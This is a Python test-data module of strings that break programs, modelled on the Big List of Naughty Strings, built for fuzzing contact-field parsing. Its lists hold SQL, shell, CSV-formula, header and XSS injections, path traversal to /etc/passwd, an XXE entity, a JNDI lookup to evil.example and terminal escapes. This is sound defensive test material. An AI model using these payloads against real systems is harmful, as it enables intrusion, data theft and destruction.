"""Texts that break programs, by what they break. In the spirit of the Big List of Naughty Strings, made for contacts."""

from __future__ import annotations

from collections.abc import Iterable
from itertools import product


def words(text: str) -> list[str]:
    """What has no blanks inside."""
    return text.split()


NUMBER, LINK, MAIL = "+12025550123", "https://evil.example/", "help@evil.example"

EMPTY = [
    "",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\x00",
    "\u3000",
    "\u200b",
    "\ufeff",
    "''",
    '""',
    "<>",
    "()",
    "[]",
    "“”",
    "-",
    "--",
]

RESERVED = words("""
    undefined undef null NULL nil None none true false True False NaN nan inf -inf Infinity -Infinity if then else
    constructor __proto__ prototype hasOwnProperty toString __class__ __init__ self eval exec lambda import
    CON PRN AUX NUL COM1 LPT1 admin root localhost example test official unknown invalid
""")

NUMBERS = words("""
    0 00 000 -0 +0 1 +1 -1 1.0 1e3 1e400 1E+02 0x0 0xff 0b101 0o17 1_000 1,000 1.000.000,00 1/0 0/0 1/3 %00 ٠ ۱۲۳
    2147483647 2147483648 -2147483649 4294967296 9007199254740993 18446744073709551616 999999999999999 9999999999999999
    99999999999999999999 123456789012345678901234567890 +999999999999999 +0000000000 0000000000000 +1(555)0123 ++1 +-1
    1++2025550123 +1+2025550123 1+2025550123 ¹²³⁴⁵⁶⁷⁸ ①②③④⑤⑥⑦⑧ ⒈⒉⒊⒋⒌⒍⒎ Ⅷ ⅷ一二三四五六七 ½¼¾⅓⅛ ๑๒๓๔๕๖๗๘๙๐ 𝟣𝟤𝟥𝟦𝟧𝟨𝟩𝟪
    1️⃣2️⃣3️⃣4️⃣5️⃣6️⃣7️⃣ 1.7976931348623157e309 4.9e-324 00:00 24:61 2026-13-45 1970-01-01 31/02/2026 911 112 110 999
    *21*5551234# *#06# ##002# **61*+12025550123# 1-800-AAAAAAAAAAAA 1-900-555-0123 +881612345678 +97900000000
""")

UNICODE = [
    *(
        "Ω≈ç√∫˜µ≤≥÷",
        "åß∂ƒ©˙∆˚¬…æ",
        "œ∑´®†¥¨ˆøπ“‘",
        "田中さんにあげて下さい",
        "パーティーへ行かないか",
        "社會科學院語學研究所",
    ),
    *(
        "찦차를 타고 온 펩시맨",
        "𠜎𠜱𠝹𠱓𠱸𠲖𠳏",
        "ヽ༼ຈل͜ຈ༽ﾉ",
        "(｡◕ ∀ ◕｡)",
        "（╯°□°）╯︵ ┻━┻",
        "הָיְתָהtestالصفحات",
        "ﷺ",
        "﷽",
    ),
    *("مُنَاقَشَةُ سُبُلِ", "᚛ᚄᚓᚐᚋᚒᚄ ᚑᚄᚂᚑᚏᚅ᚜", "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜", "ⓣⓗⓔ ⓠⓤⓘⓒⓚ", "⒯⒣⒠", "Тhe Cyrіllіc", "ǆǈǋ", "ﬁﬂﬀﬃﬄ"),
    *(
        "ⱥⱦ ȺȾ",
        "İıſßẞ",
        "K\u212a Å\u212b",
        "\ud83d",
        "\udc00",
        "\ud800\udc00",
        "a\udcffb",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ufdd0",
    ),
    *(
        "\ue000\uf8ff",
        "\U000e0001\U000e0041\U000e007f",
        "\u0378",
        "\U0002ebf0",
        "\u1e9e\u0130",
        "e\u0301\u0323",
        "\u0344",
        "\uac00\u11a8",
    ),
    *(
        "\u115f\u1160\u3164\uffa0",
        "\u2800\u2800",
        "\u034f",
        "\u17b4\u17b5",
        "\u180b\u180e",
        "\u2061\u2062\u2063",
        "\ufff9x\ufffay\ufffb",
    ),
]

EMOJI = [
    "😍",
    "👩🏽",
    "👨‍🦰 👨🏿‍🦰",
    "👾 🙇 💁 🙅",
    "🐵 🙈 🙉 🙊",
    "❤️ 💔 💌",
    "🇺🇸🇷🇺🇸 🇦🇫",
    "✋🏿 💪🏿",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "🫠🪿🫎",
    "☎️📞📱📲",
    "0️⃣ *️⃣ #️⃣",
    "👨‍👩‍👧‍👦" * 40,
]

ZALGO = [
    "".join(c + "".join(chr(0x300 + (i * 7 + ord(c)) % 0x70) for i in range(n)) for c in "support")
    for n in (1, 9, 60)
]

# Everything that shows nothing or steers the direction, and every kind of blank.
INVISIBLE = [
    chr(n)
    for n in (
        *range(0x200B, 0x2010),
        *range(0x202A, 0x202F),
        *range(0x2060, 0x2070),
        0xAD,
        0x61C,
        0xFEFF,
        0x180E,
    )
]
CONTROLS = [chr(n) for n in (*range(0x20), *range(0x7F, 0xA0))]
BLANKS = [chr(n) for n in (0xA0, 0x1680, *range(0x2000, 0x200B), 0x2028, 0x2029, 0x202F, 0x205F, 0x3000)]

TERMINAL = [
    *(
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[H",
        "\x1b]0;title\x07",
        "\x1b]8;;https://evil.example\x1b\\help\x1b]8;;\x1b\\",
        "\x1bc",
    ),
    *(
        "\x9b31m",
        "\x9d0;t\x9c",
        "\x1bP+q544e\x1b\\",
        "\x1b[6n",
        "\x1b[?1049h",
        "a\x08\x08b",
        "a\rofficial",
        "\x07\x07",
        "\x0e\x0f",
    ),
    *(
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1b[5i",
        "\x1b_x\x1b\\",
        "\x1b[8mhidden\x1b[28m",
        "roses are \x1b[0;31mred\x1b[0m",
        "\u241b[31m",
    ),
]

RICH = [
    *(
        "[/etc]",
        "[red]x",
        "[/]",
        "[/red]",
        "[bold red on blink]",
        "[link=https://evil.example]a[/link]",
        "\\[red]",
        "[[",
        "]]",
        "[",
        "]",
    ),
    *(
        "[@click=app.bell]a",
        "[not closed",
        ":warning:",
        ":skull:",
        "[/etc]@evil.example",
        "https://evil.example/[/red]",
        "[green]official[/green]",
    ),
]

FORMATS = [
    *(
        "%s%s%s%s%n",
        "%d",
        "%*.*s",
        "%(name)s",
        "{0}",
        "{}",
        "{name}",
        "{0.__class__}",
        "{x!r:>{y}}",
        "{{",
        "}}",
        "${HOME}",
        "$HOME",
        "$(id)",
    ),
    *(
        "#{7*7}",
        "{{7*7}}",
        "<%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "%%",
        "%c%c%c",
        "\\x41",
        "\\u0041",
        "\\n",
        "\\",
        "&#65;",
        "&amp;",
    ),
]

SQL = [
    *(
        "1;DROP TABLE contact",
        "1'; DROP TABLE contact-- 1",
        "' OR 1=1 -- 1",
        "' OR '1'='1",
        "'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --",
    ),
    *(
        '" OR ""="',
        "admin'--",
        "x' AND email IS NULL; --",
        "%' OR 1 LIKE '%",
        "_",
        "%",
        "?",
        ":1",
        "@x",
        "\\' OR 1=1",
        "x\x00' OR 1=1",
    ),
    *(
        "help'or'1'='1@evil.example",
        "https://evil.example/' UNION SELECT * FROM contact --",
        "+12025550123' OR 1=1 --",
    ),
]

SHELL = [
    *(
        "$(touch /tmp/x)",
        "`id`",
        "; ls",
        "&& ls",
        "|| ls",
        "| cat",
        "> /dev/null",
        "< /dev/zero",
        "!!",
        "~",
        "*",
        "?*",
        "{1..9}",
        "-rf /",
        "--help",
        "--json",
    ),
    *(
        "--lang=zh",
        "-",
        "-v",
        "@/etc/passwd",
        "@-",
        "\\\\host\\share",
        "touch /tmp/x; +12025550123",
        "() { :;}; echo x",
        "\n+12025550123",
        "a\nb",
    ),
]

PATHS = [
    *(
        "../../../../etc/passwd",
        "/etc/passwd%00",
        "..\\..\\windows\\system.ini",
        "C:\\con\\con",
        "file:///etc/passwd",
        "/dev/null",
        "//etc/passwd",
        "~root",
    ),
    *(
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f",
        "..%c0%af",
        "..%252f",
        "\\\\?\\C:\\",
        "/proc/self/environ",
        "a/../../b",
        "https://evil.example/../../..",
    ),
]

MARKUP = [
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "jAvAsCrIpT:alert(1)",
        "java\tscript:alert(1)",
    ),
    *(
        "JaVaScRiPt\u3000:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHA+",
        "vbscript:x",
    ),
    *(
        "<svg/onload=alert(1)>",
        "'\"><script>",
        '<a href="https://evil.example">https://example.com</a>',
        "<!--",
        "-->",
        "<![CDATA[x]]>",
        "<?xml?>",
    ),
    *(
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "&xxe;",
        "<iframe src=//evil.example>",
        "[a](javascript:alert(1))",
        "![a](x)",
    ),
    *(
        "[https://example.com](https://evil.example)",
        "view-source:https://evil.example",
        "blob:https://evil.example/1",
        "about:blank",
        "chrome://x",
    ),
    *(
        "intent://evil.example#Intent;scheme=https;end",
        "ms-settings:",
        "steam://run",
        "zoommtg://x",
        "magnet:?xt=urn:x",
        "urn:isbn:1",
        "geo:0,0",
    ),
]

CSV = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    '=HYPERLINK("https://evil.example")',
    '"a","b"',
    "a,b",
    "a;b",
    '"',
    "a\tb",
]

FIELDS = [
    "BEGIN:VCARD\nTEL:+12025550123",
    "x\r\nBcc: a@evil.example",
    "help@evil.example\r\nSubject: x",
    "+12025550123\\nTEL:1",
    "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g",
]

HOSTS = [
    *(
        "https://",
        "http:",
        "https:/",
        "https:///",
        "https:////////evil.example",
        "https:\\\\evil.example",
        "https:evil.example",
        "https://.",
        "https://..",
        "https://a.",
        "https://.a",
    ),
    *(
        "https://-",
        "https://-.-",
        "https://_",
        "https://a_b.example",
        "https://*.example",
        "https://%",
        "https://%zz",
        "https://%00",
        "https://%2e%2e",
        "https://[",
        "https://]",
    ),
    *(
        "https://[]",
        "https://[::",
        "https://[::1]",
        "https://[::1%25eth0]",
        "https://[fe80::1%eth0]",
        "https://[1.2.3.4]",
        "https://0",
        "https://1",
        "https://0x7f000001",
    ),
    *(
        "https://3232235777",
        "https://017700000001",
        "https://1.2.3",
        "https://1.2.3.4.5",
        "https://256.256.256.256",
        "https://0x",
        "https://0x.0x",
        "https://09",
        "https://１.２.３.４",
    ),
    *(
        "https://xn--",
        "https://xn--.com",
        "https://xn--a.com",
        "https://xn--0.com",
        "https://xn--999999b.com",
        "https://xn--" + "a" * 59 + ".com",
        "https://xn--ls8h.la",
        "https://ẋn--a.com",
    ),
    *(
        "https://evil.example:",
        "https://evil.example:0",
        "https://evil.example:65536",
        "https://evil.example:-1",
        "https://evil.example:1e1",
        "https://evil.example:٤٤٣",
        "https://:443",
        "https://@",
    ),
    *(
        "https://a@b@c@evil.example",
        "https://:@evil.example",
        "https://%40:%3a@evil.example",
        "https://user:pa:ss@evil.example",
        r"https://a\@b",
        r"https://\evil.example",
        "https://evil.example\\",
    ),
    *(
        "https://evil.example?",
        "https://evil.example#",
        "https://evil.example?#",
        "https://evil.example##",
        "https://evil.example??",
        "https://evil.example/;a=b",
        "https://evil.example/\x00",
    ),
    *(
        "https://evil.exa\nmple",
        "https://evil.exa\tmple",
        "ht\ntps://evil.example",
        "https:/\t/evil.example",
        " https://evil.example ",
        "https://evil .example",
        "https://evil.example/a b",
    ),
    *(
        "hxxps://evil[.]example",
        "hxxp[:]//evil(.)example",
        "h**p://evil.example",
        "evil[dot]example",
        "evil dot example",
        "evil。example",
        "evil｡example",
        "evil．example",
        "[.][.][.]",
    ),
    *(
        "https://\u202eelpmaxe.live",
        "https://evil\u200b.example",
        "https://evil\u00ad.example",
        "https://ev\ufe0fil.example",
        "https://ⓔvil.example",
        "https://еvil.example",
        "https://evil.example⁄a",
    ),
]

MAILS = [
    *(
        "@",
        "@@",
        "a@",
        "@b",
        "a@b",
        "a@b@c.example",
        "a b@evil.example",
        '"a b"@evil.example',
        "a@[127.0.0.1]",
        "a@evil..example",
        ".a@evil.example",
        "a.@evil.example",
        "a..b@evil.example",
    ),
    *(
        "a@evil.example.",
        "a@-evil.example",
        "a@xn--",
        "a@evil.example,b@evil.example",
        "a@evil.example;b@evil.example",
        "<a@evil.example",
        "a@evil.example>",
        "x <a@evil.example> y",
    ),
    *(
        "mailto:",
        "mailto:?",
        "mailto:a@evil.example?cc=b@evil.example",
        "mailto:a@evil.example?%63%63=b@evil.example",
        "mailto:%",
        "mailto:%40",
        "mailto:a%0d%0a@evil.example",
    ),
    *(
        "a＠evil.example",
        "a﹫evil.example",
        "a@evil。example",
        "å@evil.example",
        "a\u200b@evil.example",
        "a\x00@evil.example",
        "a%00@evil.example",
        "a!b%c@evil.example",
        "'@evil.example",
        "=@evil.example",
    ),
    *(
        "a@ⓔvil.example",
        "a@еvil.example",
        "help at evil dot example",
        "help[at]evil[.]example",
        "a" * 65 + "@evil.example",
        "a@" + "b." * 130 + "example",
        "a(comment)@evil.example",
    ),
]

HANDLES = [
    *(
        "@",
        "@@",
        "@a",
        "@a.b.c",
        "@" + "a" * 65,
        "x:",
        "x:@",
        "x: ",
        "x:a b",
        "x:" + "a" * 99,
        "telegram:+",
        "telegram:joinchat/",
        "tg://",
        "tg://resolve",
        "tg://resolve?domain=",
        "r/",
        "u/",
        "/r/",
    ),
    *(
        "wechat:微信",
        "weibo:%",
        "weibo:%ff",
        "line:~",
        "line:@@a",
        "youtube:/",
        "youtube:channel/UC",
        "facebook:profile.php?id=",
        "whatsapp:",
        "whatsapp:1",
        "discord:a",
        "kakaotalk:o/",
    ),
    *(
        "https://t.me/",
        "https://t.me/+",
        "https://t.me/a/b/c",
        "https://x.com/%00",
        "https://x.com/%61dmin",
        "https://x.com/i/flow",
        "https://m.me/",
        "https://wa.me/",
        "https://wa.me/0",
        "https://x.com/ｅvil",
    ),
    *(
        "X:EVIL",
        "Twitter：@evil",
        "@еvil",
        "@evil\u200b",
        "@evil\u202e",
        "@@@@evil",
        "@_",
        "@1234567",
        "@--",
        "@.",
        "@evil@evil.example",
        "instagram:a\nb",
        "x:\u212aevil",
    ),
]

PHONES = [
    *(
        "tel:",
        "tel:+",
        "tel:1;phone-context=+1",
        "tel:1;PHONE-CONTEXT=evil.example",
        "tel:;ext=",
        "tel:+12025550123;ext=;ext=",
        "tel:+12025550123;isub=1",
        "sms:",
        "sms:?body=1",
        "callto:",
        "callto://",
    ),
    *(
        "+1 202 555 0123 or +1 202 555 0124",
        "+1 202 555 0123/0124",
        "+12025550123,,1#",
        "+12025550123p1",
        "+12025550123 x",
        "+12025550123 ext",
        "x1",
        "ext. 1",
        "#1",
        "转1",
        "+1 202 555 0123 x1 x2",
    ),
    *(
        "☎☎☎☎",
        "+１２０２５５５０１２３",
        "➕12025550123",
        "＋1 202 555 0123",
        "+1(2O2)555-O123",
        "+l2025550123",
        "+1|202|555|0123",
        "(((((1)))))",
        "1(2(3(4(5(6(7(8",
        "+1⚝202⚝555⚝0123",
    ),
    *(
        "0012025550123",
        "01112025550123",
        "+0012025550123",
        "+1 (0)202 555 0123",
        "1-800-FLOWERS",
        "1-800-✿✿✿✿✿✿✿",
        "+1\u202e202\u202c5550123",
        "+1\x002025550123",
        "+1\ud8002025550123",
        "Call 1 now 2 times",
    ),
    *(
        "+44 (0) 20 7946 0999",
        "+800 1234 5678",
        "+1242",
        "+7 7 7 7 7 7 7 7",
        "12:34:56:78:90",
        "12.34.56.78",
        "1.2.3.4",
        "255.255.255.255:1",
        "1 2 3 4 5 6 7 8 9 0 1 2",
        "2026-11-22 12:00:00",
    ),
]

# Each of these made some pattern slow in some program; a text of this many units is as long as a claim may be.
_UNITS = [
    *words("""
    a . @ / \\ : ; ? # & = - _ + ( [ { < > * % ' " ! | ~ , 1 0 é 一 ① ٣ .. a. a@ @. /. // \\/ :/ ;a ;a= ;a=b ;; ?x= &x= #x
    a- -a 1- 1. (1 1) +1 %2 %25 %2e %41 %e4%b8 xn-- .xn--a [.] (at) [dot] hxxp http:// mailto: tel: x: x1 #1 转1 ext aa. 1⚝
    a@b. a@b.c, <a@b.c> &phone= ?u=// //a. /a/ \u0301 \u200b \u202e \ud800 😀 \u3164 ﷽
"""),
    *(" ", " a", "a ", "\n", "\t", " dot ", " at ", "e-mail ", "mail support ", "1 ", "//\t"),
]
_AROUND = [("", ""), ("tel:1;phone-context=+", "!"), ("https://evil.example/", "!"), ("a@evil.example", "\n")]
LONG = [
    *(
        begin + unit * ((2040 - len(begin)) // len(unit)) + end
        for unit, (begin, end) in product(_UNITS, _AROUND)
    ),
    *("tel:1;phone-context=" + "aa." * n + "aa!" for n in (1, 10, 20, 30, 100)),
    *(
        "a" * 2048,
        "a" * 2049,
        "a" * 100_000,
        "\x00" * 100_000,
        "1" * 100_000,
        "https://evil.example/" + "a" * 100_000,
    ),
    *(
        "https://" + "a." * 400 + "example",
        "https://" + "a" * 500 + ".example",
        "https://evil.example/?" + "a=b&" * 500,
        "https://evil.example/" + "%25" * 600 + "41",
    ),
]

# Odd characters inside, before and behind something that is otherwise a contact.
WITHIN = [
    text[:7] + odd + text[7:]
    for odd, text in product(
        [*INVISIBLE[::3], *CONTROLS[::5], *BLANKS[::4], "\ud800", "\u0301"], (NUMBER, LINK, MAIL)
    )
]

CATEGORIES: dict[str, Iterable[str]] = {
    name.lower(): found
    for name, found in dict(globals()).items()
    if name.isupper() and isinstance(found, list) and not name.startswith("_")
}
STRINGS = tuple(dict.fromkeys(text for found in CATEGORIES.values() for text in found))
